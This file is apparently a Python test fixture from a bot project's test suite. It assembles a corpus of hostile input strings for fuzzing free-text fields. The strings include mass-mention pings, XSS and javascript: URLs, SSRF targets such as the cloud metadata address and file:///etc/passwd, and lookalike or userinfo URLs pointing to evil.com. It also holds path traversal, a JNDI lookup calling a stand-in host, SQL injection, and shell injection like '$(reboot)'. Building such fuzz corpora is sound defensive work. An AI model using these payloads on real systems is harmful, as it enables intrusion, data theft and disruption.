"""A corpus of hostile strings for every free-text field and option: mentions, markdown, control and
zero-width characters, bidi overrides, huge fields, URLs to other hosts and schemes, path tricks and
injection classics. `CORPUS` is (category, text) pairs, deduplicated, in a stable order."""

from __future__ import annotations

from tests.harness import Harness as H

MAINTAINER_ROLE, MAINTAINER, USER2, ECO = H.MAINTAINER_ROLE, H.MAINTAINER, H.USER2, H.ECO_CHANNEL

MENTIONS = [
    "@everyone", "@here", "@everyone hi", "hello @here!", f"<@{MAINTAINER}>", f"<@!{MAINTAINER}>", f"<@{USER2}>",
    f"<@&{MAINTAINER_ROLE}>", f"<@&{H.GUILD}>", f"<#{ECO}>", "<@1>", "<@&1>", "<@!0>", "<@&0>",
    "@\u200beveryone", "@\u200bhere", "\uff20everyone", "@@everyone", "`@everyone`", "||@here||",
    "[@everyone](https://evil.example)", f"<@{MAINTAINER}> <@&{MAINTAINER_ROLE}> @everyone @here",
    "@everyone" * 50, f"please review <@&{MAINTAINER_ROLE}>", f"cc <@{USER2}> and <@{MAINTAINER}>",
    "<@999999999999999999999999>", "<@-1>", "</eco transfer:1>", "<t:0:R>", "<:pwn:123456789012345678>",
    "<a:pwn:123456789012345678>", "@Maintainers", "@maint-one", "@everyone\n@here\n@everyone",
]

MARKDOWN = [
    "**bold**", "__underline__", "~~strike~~", "||spoiler||", "# Heading", "## Heading 2", "-# subtext",
    "> quoted", ">>> quoted block", "```py\nprint('hi')\n```", "```", "``", "`", "`code`",
    "[link](https://evil.example)", "<https://evil.example>", "![img](http://127.0.0.1/x.png)",
    "[https://github.com/pallets](https://evil.example)", "\\*not\\* escaped", "*" * 60, "_" * 100,
    "1. one\n2. two", "- a\n- b", "***___~~||``||~~___***", "text\u0336with\u0336combining",
    "a\\", "\\", "](", "[", "]", ")(", "<", ">", "&amp;&lt;", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "```@everyone```", "**@everyone**", "[x](javascript:alert(1))",
]

CONTROL = [
    "\x00", "a\x00b", "\x07bell", "\x08backspace", "\x1b[31mred\x1b[0m", "\r\n", "\n", "\r", "\t", "\v", "\f",
    "line1\nline2\rline3", "\x7f", "\x85", "\u00ad", "\u180e", "\u2028", "\u2029", "\u200b", "\u200c", "\u200d",
    "\u2060", "\ufeff", "a\u200bb", "\u200b" * 20, "\ufffd", "\uffff", "\U000e0041\U000e0042",
    "e\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357", "\U0001f4a5" * 3,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "🏴‍☠️", "ｆｕｌｌｗｉｄｔｈ", "ａｌｉｃｅ",
]

BIDI = [
    "\u202e", "\u202egnp.exe", "abc\u202edef", "\u202d\u202c", "\u2066x\u2069", "\u2067x\u2069",
    "\u2068x\u2069", "\u200f", "\u200e", "\u061c", "alice\u202e/oof-ksalf", "\u202eeveryone@",
    "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627",
]

HUGE = [
    "A" * 4000, ("@everyone " * 400)[:4000], (f"<@&{MAINTAINER_ROLE}>" * 200)[:4000], "x" * 4001,
    "\U0001f4a5" * 1000, "\u200b" * 4000, "a\n" * 2000, "`" * 4000, "\u00f1" * 4000, "\U0001d54f" * 2000,
    "[a](https://evil.example)" * 160, "> " * 2000, "alice/" + "a" * 4000, "a" * 500, "a" * 501,
    "b" * 1500, "b" * 1501, "c" * 39, "c" * 40, "d" * 100, "d" * 101, "e" * 200, "e" * 201,
]

URLS = [
    "http://127.0.0.1", "http://127.0.0.1:8080/alice/flask-foo", "https://127.0.0.1/alice/flask-foo",
    "http://localhost/alice/flask-foo", "http://[::1]/alice/flask-foo", "http://169.254.169.254/latest/meta-data",
    "http://0x7f000001/alice/flask-foo", "http://2130706433/alice/flask-foo", "http://0177.0.0.1/alice/x",
    "file:///etc/passwd", "file://github.com/alice/flask-foo", "javascript:alert(1)",
    "javascript://github.com/%0aalert(1)", "gopher://evil.com:70/_alice", "ftp://github.com/alice/flask-foo",
    "data:text/html,<script>alert(1)</script>", "ssh://git@github.com/alice/flask-foo",
    "git@github.com:alice/flask-foo.git", "//evil.com/alice/flask-foo", "///evil.com/alice/flask-foo",
    "github.com.evil.com/alice/flask-foo", "https://github.com.evil.com/alice/flask-foo",
    "https://github.com@evil.com/alice/flask-foo", "https://user:pass@github.com/alice/flask-foo",
    "https://evil.com#github.com/alice/flask-foo", "https://evil.com?x=https://github.com/alice/flask-foo",
    "https://github.com:443@evil.com/alice/flask-foo", "https://github.com%2F@evil.com/alice/flask-foo",
    "https://evil.com\\@github.com/alice/flask-foo", "http://evil.com/github.com/alice/flask-foo",
    "https://gіthub.com/alice/flask-foo", "https://xn--gthub-n4a.com/alice/flask-foo",
    "https://github.com\t.evil.com/alice/flask-foo", "https://api.github.com/repos/alice/flask-foo",
    "https://raw.githubusercontent.com/alice/flask-foo/main/setup.py", "https://gist.github.com/alice/abc",
    "https://github.com/alice/flask-foo/../../evil/repo", "https://github.com/../../etc/passwd",
    "https://github.com/alice/flask-foo?redirect=https://evil.com", "https://github.com/alice/flask-foo#@evil.com",
    "https://GITHUB.COM/alice/flask-foo", "https://www.github.com/alice/flask-foo", "HTTPS://github.com/x/y",
    "\\\\evil.com\\share\\x", "https://evil.com/alice/flask-foo", "http://github.com:22/alice/flask-foo",
    "https://github.com:8443/alice/flask-foo", "https://github.com./alice/flask-foo",
    "https://pypi.org.evil.com/project/flask-foo", "https://pypi.org/project/flask-foo/",
    "https://evil.example/@everyone",
]

PATHS = [
    "../", "../../etc/passwd", "alice/../../etc", "%2e%2e/%2e%2e", "alice%2f..%2f..", "..%2F..%2Fetc",
    "alice/flask-foo/../../../x", "alice%2Fflask-foo", "alice/flask-foo%00", "alice/flask-foo\x00.txt",
    "alice/flask-foo?x=1", "alice/flask-foo#frag", "alice/.git", "./alice", "alice//flask-foo",
    "/alice/flask-foo", "alice/flask-foo/", ".../...", "alice/..", "alice/.", "./.", "%252e%252e/%252e%252e",
    "..\\..\\windows\\win.ini", "alice\\flask-foo", "alice/%2e%2e", "~/x", "$HOME/x", "alice/flask foo",
    "alice /flask-foo", " alice/flask-foo ", "alice/flask-foo.git", "alice/flask-foo.git.git", "-alice/flask",
    "alice-/flask", "a--b/c", "alice\n/flask-foo", "alice/flask-foo\n/",
    "https://github.com/alice%0A/flask-foo", "alice/" + "r" * 101, "alice/.github", "alice/con",
    "pallets-eco/flask-caching",
]

INJECTION = [
    "${jndi:ldap://evil.com/a}", "{{7*7}}", "{0.__class__}", "%s%s%s%n", "'; DROP TABLE transfer_requests; --",
    "\" OR 1=1 --", "' OR '1'='1", "Robert'); DROP TABLE students;--", "$(reboot)", "`reboot`", "; ls -la",
    "| cat /etc/passwd", "NaN", "None", "null", "true", "-1", "0", "9" * 30, "1e309", "{}", "[]",
    '{"__proto__": {"admin": true}}', "<!--", "]]>", "\\u0000", "%00", "%0d%0aSet-Cookie: x=y",
]

_SECTIONS = {
    "mention": MENTIONS, "markdown": MARKDOWN, "control": CONTROL, "bidi": BIDI, "huge": HUGE, "url": URLS,
    "path": PATHS, "injection": INJECTION,
}


def _corpus() -> list[tuple[str, str]]:
    seen: set[str] = set()
    out: list[tuple[str, str]] = []
    for category, texts in _SECTIONS.items():
        for text in texts:
            if text not in seen:
                seen.add(text)
                out.append((category, text))
    return out


CORPUS: list[tuple[str, str]] = _corpus()
STRINGS: list[str] = [text for _, text in CORPUS]
